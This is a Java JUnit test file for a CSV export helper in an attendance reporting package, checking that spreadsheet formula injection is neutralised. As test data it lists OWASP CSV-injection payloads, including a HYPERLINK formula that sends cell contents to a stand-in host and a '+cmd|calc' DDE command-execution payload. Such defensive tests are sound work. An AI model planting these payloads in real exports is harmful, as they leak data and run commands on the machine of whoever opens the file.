package uk.org.attendance.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The OWASP CSV-injection payloads, and the plain cells that must pass through unchanged. */
class CsvCellsTest {

  /** The OWASP payloads, each as it must come out: a leading quote mark, the whole cell quoted. */
  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiterString = " -> ",
      quoteCharacter = '~',
      textBlock =
          """
      =HYPERLINK("http://x"&A1,"click") -> "'=HYPERLINK(""http://x""&A1,""click"")"
      +cmd|calc!A0 -> "'+cmd|calc!A0"
      @SUM(1+1) -> "'@SUM(1+1)"
      -2+3 -> "'-2+3"
      =1+2";=1+2 -> "'=1+2"";=1+2"
      """)
  void formulaPayloadsAreNeutralised(String payload, String expected) {
    assertEquals(expected, CsvCells.text(payload));
  }

  @Test
  void tabAndCarriageReturnAtTheStartAreNeutralisedToo() {
    assertEquals("\"'\t=1+1\"", CsvCells.text("\t=1+1"));
    assertEquals("\"'\r=1+1\"", CsvCells.text("\r=1+1"));
    assertEquals("'=1+1", CsvCells.neutralised("=1+1"));
    assertEquals("Smith, Ann", CsvCells.neutralised("Smith, Ann"));
  }

  @Test
  void ordinaryTextIsQuotedOnlyWhenItMustBe() {
    assertEquals("Oakfield", CsvCells.text("Oakfield"));
    assertEquals("\"Smith, Ann\"", CsvCells.text("Smith, Ann"));
    assertEquals("\"say \"\"hello\"\"\"", CsvCells.text("say \"hello\""));
    assertEquals("\"a;b\"", CsvCells.text("a;b"));
    assertEquals("", CsvCells.text(null));
    assertEquals("a,\"'=b\",\n", CsvCells.row("a", "=b", ""));
  }

  @Test
  void figuresWeWorkedOutStayNumbersAndNothingElseGetsThrough() {
    assertEquals("93.5", CsvCells.number("93.5"));
    assertEquals(
        "-2",
        CsvCells.number("-2"),
        "a negative figure is a number to a spreadsheet, not a formula");
    assertEquals("12", CsvCells.number(12));
    assertEquals("2025-09-08", CsvCells.date(java.time.LocalDate.of(2025, 9, 8)));
    assertEquals("", CsvCells.date(null));
    assertThrows(IllegalArgumentException.class, () -> CsvCells.number("-2+3"));
    assertThrows(IllegalArgumentException.class, () -> CsvCells.number("=1"));
    assertThrows(IllegalArgumentException.class, () -> CsvCells.date("=NOW()"));
  }
}
